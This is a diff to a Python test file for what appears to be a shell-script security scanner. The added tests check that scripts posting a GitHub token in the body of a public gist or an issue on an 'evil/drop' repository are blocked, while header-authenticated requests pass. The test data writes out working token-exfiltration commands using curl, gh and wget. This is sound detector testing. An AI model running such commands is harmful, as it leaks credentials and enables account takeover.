@@ -1,6 +1,7 @@
 """Deletes run without asking on everything an account lists, in the forms that switch the prompt
 off without a flag (the environment, a pipe that answers yes) or skip it (the API called directly),
-each next to the benign look-alike that must keep passing.
+each next to the benign look-alike that must keep passing; and a GitHub token put into the body of
+a request to GitHub, where what the request creates shows it, next to one in the header.
 """
 
 from __future__ import annotations
@@ -95,3 +96,33 @@ def test_one_named_repository_deleted_through_the_api_still_passes(tmp_path: Pat
     )
     for i, script in enumerate(shapes):
         assert blocking(tmp_path / str(i), {"clean.sh": script}) == {}, script
+
+
+# ------------------------------------------------ a GitHub token in what a request to GitHub carries
+
+_GIST = '{\\"public\\": true, \\"files\\": {\\"a.txt\\": {\\"content\\": \\"$GITHUB_TOKEN\\"}}}'
+
+
+def test_a_github_token_in_the_body_of_a_request_to_github_blocks(tmp_path: Path) -> None:
+    shapes = (
+        f'curl -s {_AUTH} -X POST {_API}/gists -d "{_GIST}"\n',
+        f'curl -s {_AUTH} --data-raw "{{\\"title\\": \\"x\\", \\"body\\": \\"$GH_TOKEN\\"}}" '
+        f"{_API}/repos/evil/drop/issues\n",
+        'gh api repos/evil/drop/issues -f title=x -f body="$GITHUB_TOKEN"\n',
+        'gh issue create --repo evil/drop --title x --body "token: $GH_TOKEN"\n',
+        f'wget -q --header "Authorization: token $GITHUB_TOKEN" --post-data="c=$GITHUB_TOKEN" {_API}/gists\n',
+    )
+    for i, script in enumerate(shapes):
+        assert "SY-FLOW-001" in blocking(tmp_path / str(i), {"post.sh": script}), script
+
+
+def test_a_github_token_in_the_authorization_header_still_passes(tmp_path: Path) -> None:
+    shapes = (
+        f"curl -s {_AUTH} {_API}/user/repos\n",
+        f'curl -s {_AUTH} -X POST -d "{{\\"title\\": \\"build failed\\", \\"body\\": \\"$MSG\\"}}" '
+        f'"{_API}/repos/$REPO/issues"\n',
+        'gh api -H "Authorization: token $GH_TOKEN" repos/o/r/dispatches -f event_type=build\n',
+        'gh issue create --title "build failed" --body "$MSG"\n',
+    )
+    for i, script in enumerate(shapes):
+        assert blocking(tmp_path / str(i), {"post.sh": script}) == {}, script
